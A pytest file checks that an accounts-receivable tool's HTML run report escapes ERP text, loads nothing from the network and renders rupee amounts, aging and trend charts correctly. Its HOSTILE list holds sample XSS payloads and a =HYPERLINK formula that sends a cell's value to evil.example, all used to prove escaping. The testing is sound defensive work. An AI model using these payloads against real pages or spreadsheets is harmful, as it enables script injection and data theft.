"""The run report as text: what a finance lead sees, safe whatever the ERP holds, with no browser."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from ar_sync.night_history import TrendPoint
from ar_sync.night_summary import CustomerTwin, InvoiceTwin, NightSummary, OverdueCustomer
from ar_sync.output_files import run_report_file
from ar_sync.rejections import REJECTED_SCHEMA, write_rejected
from ar_sync.report_charts import nice_ceiling
from ar_sync.results import RESULT_SCHEMA
from ar_sync.run_report import render_run_report, write_run_report

NIGHT = date(2026, 11, 24)
SVG = "{http://www.w3.org/2000/svg}"
#: Every tag the report writes; anything else in a page came from data.
OUR_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "div", "p", "h1", "h2", "h3", "time",
    "br", "span", "section", "ul", "li", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "code",
    "footer", "svg", "line", "g", "rect", "text", "path", "polyline", "circle",
}  # fmt: skip
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "O'Brien & Sons </td></tr></table>",
]


def summary(**fields: object) -> NightSummary:
    return NightSummary.model_validate({"seller_id": "CEKSANDBX1", "as_of": NIGHT, **fields})


def busy_night() -> NightSummary:
    return summary(
        customers_created=8,
        invoices_uploaded=38,
        invoices_dispatched=38,
        invoices_failed=2,
        invoices_rejected=1,
        customers_rejected=1,
        open_invoices=38,
        open_amount=2345678.5,
        aging={"current": 1200000.0, "1-30": 600000.0, "31-60": 300000.0, "61-90": 0.0, "90+": 245678.5},
        dso=47.25,
        top_overdue=[
            OverdueCustomer(
                customer_ref=f"C{i}", customer_name=name, overdue_amount=1000.0 * (i + 1), invoices=1,
                oldest_days_past_due=10,
            )
            for i, name in enumerate(HOSTILE)
        ],
    )  # fmt: skip


def results(rows: list[tuple[str, str, str, str, float, str | None]]) -> pl.DataFrame:
    return pl.DataFrame([(*row, None) for row in rows], schema=RESULT_SCHEMA, orient="row")


def rejected(count: int, key: str = "INV-9") -> pl.DataFrame:
    return pl.DataFrame(
        [("invoices", "/erp/invoices.csv", i + 2, key, "base_amount", "base_amount: decimal comma", "12,5")
         for i in range(count)],
        schema=REJECTED_SCHEMA,
        orient="row",
    )  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def tags_of(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    return parser


def charts(page: str) -> dict[str, ET.Element]:
    """Every chart of the page, parsed as XML (so each is well-formed whatever its labels hold)."""
    found = re.findall(r"<svg .*?</svg>", page, flags=re.DOTALL)
    parsed = [ET.fromstring(svg) for svg in found]  # noqa: S314 - the report's own output
    return {element.attrib["id"]: element for element in parsed}


def test_erp_text_cannot_become_markup_or_a_spreadsheet_formula() -> None:
    failures = results([("invoices_upload", name, "failure", "sent", 10.0, name) for name in HOSTILE])
    page = render_run_report(
        busy_night().model_copy(
            update={
                "invoice_twins": [InvoiceTwin(invoice_number=HOSTILE[0], invoice_id="IN9", keeper_id=None,
                                              reason=HOSTILE[1])],
                "customer_twins": [CustomerTwin(customer_ref=HOSTILE[3], customer_ids=["K1", HOSTILE[0]])],
            }
        ),
        results=failures,
        rejected=rejected(1, key=HOSTILE[1]).with_columns(pl.lit(HOSTILE[3]).alias("file")),
    )  # fmt: skip

    parsed = tags_of(page)
    assert parsed.tags <= OUR_TAGS
    assert not {name for name in parsed.attributes if name.startswith("on")}
    assert "alert(1)" in page  # shown as text ...
    assert "<script" not in page and "<img" not in page  # ... never as markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # A cell a spreadsheet would run is shown with the quote rejected_rows.csv gives it.
    assert "&#x27;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page
    assert "O&#x27;Brien &amp; Sons &lt;/td&gt;" in page
    assert len(charts(page)) == 3


def test_the_page_needs_no_network_and_runs_no_script() -> None:
    quiet = busy_night().model_copy(update={"top_overdue": []})  # no ERP text that names a host
    page = render_run_report(quiet, trend=[TrendPoint(NIGHT - timedelta(days=1), 1e6, 40.0)])

    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert set(re.findall(r"(?:https?:)?//[\w.-]+", page)) == {"http://www.w3.org"}  # the SVG namespace only
    assert "<link" not in page and "@import" not in page and "url(" not in page
    assert not {"src", "href"} & tags_of(page).attributes


def test_headline_aging_and_amounts_read_the_indian_way() -> None:
    page = render_run_report(busy_night())

    assert "₹23,45,679" in page  # the headline, in whole rupees
    assert "₹11,45,679" in page  # overdue: everything past current
    assert "47.2 days" in page
    aging = charts(page)["aging-chart"]
    bars = aging.findall(f".//{SVG}rect")
    assert [bar.attrib["class"].split()[0] for bar in bars] == ["bar"] * 5
    labels = [t.text for t in aging.iter(f"{SVG}text")]
    assert labels[:3] == ["₹12,00,000.00", "Current", "51%"]
    assert "₹0.00" in labels and "Over 90 days" in labels
    # The tallest bar is the largest amount, the empty bucket a hairline on the axis.
    heights = [float(bar.attrib["height"]) for bar in bars]
    assert heights.index(max(heights)) == 0 and heights[3] == 1.0


def test_an_empty_night_renders_with_its_zero_states() -> None:
    page = render_run_report(summary())

    assert "All in order" in page
    assert "Nothing failed tonight." in page and "Nothing is overdue." in page
    assert "No ERP row was rejected." in page and "No DSO yet" in page
    assert "The first night on record" in page
    found = charts(page)
    assert len(found["aging-chart"].findall(f".//{SVG}rect")) == 5
    trend = found["open-trend-chart"]
    assert trend.find(f".//{SVG}polyline") is None
    assert [c.attrib["data-night"] for c in trend.iter(f"{SVG}circle")] == [NIGHT.isoformat()]


def test_a_night_with_twins_says_what_to_do_before_anything_else() -> None:
    twin = InvoiceTwin(invoice_number="INV-7", invoice_id="IN70", keeper_id="IN7", reason="dispatched")
    twins = summary(
        invoice_twins=[twin],
        customer_twins=[CustomerTwin(customer_ref="CUST1", customer_ids=["K1", "K2"])],
        twins_open_amount=1234.5,
    )  # fmt: skip
    page = render_run_report(twins)

    assert "Needs attention" in page
    attention = page[page.index('id="attention"') : page.index('class="kpis"')]
    assert "INV-7" in attention and "IN70" in attention and "IN7" in attention
    assert "CUST1" in attention and "K1, K2" in attention
    assert "Cancel the extra copy on the EnKash portal" in attention
    assert "₹1,234.50 is open on the extra copies" in attention


def test_the_trend_shows_every_night_and_the_change_since_the_last() -> None:
    trend = [
        TrendPoint(NIGHT - timedelta(days=3), 1_000_000.0, 50.0),
        TrendPoint(NIGHT - timedelta(days=1), 2_500_000.0, None),  # no credit sales that night
    ]
    page = render_run_report(busy_night(), trend=trend)

    found = charts(page)
    amounts = found["open-trend-chart"]
    nights = [c.attrib["data-night"] for c in amounts.iter(f"{SVG}circle")]
    assert nights == [(NIGHT - timedelta(days=d)).isoformat() for d in (3, 1, 0)]
    assert len(amounts.findall(f".//{SVG}polyline")[0].attrib["points"].split()) == 3
    assert {"₹10 L", "₹25 L", "₹23.5 L"} <= {t.text for t in amounts.iter(f"{SVG}text")}
    assert len(list(found["dso-chart"].iter(f"{SVG}circle"))) == 2
    assert "1 night without a DSO" in page
    assert "▼ ₹1,54,322 since 23 Nov" in page


def test_stages_failures_and_rejected_rows_name_their_keys() -> None:
    night_results = results(
        [
            ("invoices_upload", "INV-1", "success", "sent", 100.0, None),
            ("invoices_upload", "INV-2", "failure", "sent", 250.5, "customer not found"),
            ("invoices_upload", "INV-3", "success", "already_present", 10.0, None),
            ("invoices_dispatch", "INV-1", "success", "sent", 0.0, None),
        ]
    )
    page = render_run_report(busy_night(), results=night_results, rejected=rejected(250))

    stages = page[page.index('class="stages"') : page.index("</table>", page.index('class="stages"'))]
    upload = re.search(r"Invoices uploaded</td>(.*?)</tr>", stages)
    assert upload is not None
    assert re.findall(r">([^<>]+)</td>", upload.group(1)) == ["1", "1", "1", "₹100.00"]
    assert "INV-2" in page and "customer not found" in page and "₹250.50" in page
    assert page.count(">INV-9</td>") == 200
    assert "Showing 200 of 250" in page and "rejected_rows.csv" in page


def test_a_dry_run_shows_what_would_have_been_sent() -> None:
    page = render_run_report(summary(dry_run=True, planned={"invoices_upload": 40, "customers_create": 8}))

    assert "Dry run" in page and "Nothing was sent to EnKash" in page
    assert "Would send" in page
    assert re.search(r"Invoices uploaded</td><td class=\"num\">40</td>", page)


def test_the_report_is_written_beside_the_nights_files(tmp_path: Path) -> None:
    write_rejected([rejected(2, key="INV-<9>")], tmp_path / "rejected_rows.csv")

    path = write_run_report(tmp_path, busy_night())

    assert (
        path
        == tmp_path / "ar-report-CEKSANDBX1-2026-11-24.html"
        == tmp_path / run_report_file("CEKSANDBX1", NIGHT)
    )
    page = path.read_text(encoding="utf-8")
    assert page.count("INV-&lt;9&gt;") == 2
    # A rejected-rows report with a column more (a later release) still shows its rows.
    wider = pl.read_csv(tmp_path / "rejected_rows.csv").with_columns(pl.lit("x").alias("severity"))
    wider.write_csv(tmp_path / "rejected_rows.csv")
    assert write_run_report(tmp_path, busy_night()).read_text(encoding="utf-8").count("INV-&lt;9&gt;") == 2
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize(
    ("value", "ceiling"), [(0.0, 1.0), (0.7, 0.8), (1.0, 1.0), (23.3, 25.0), (2_612_000.0, 3_000_000.0)]
)
def test_chart_scales_end_on_round_numbers(value: float, ceiling: float) -> None:
    assert nice_ceiling(value) == pytest.approx(ceiling)
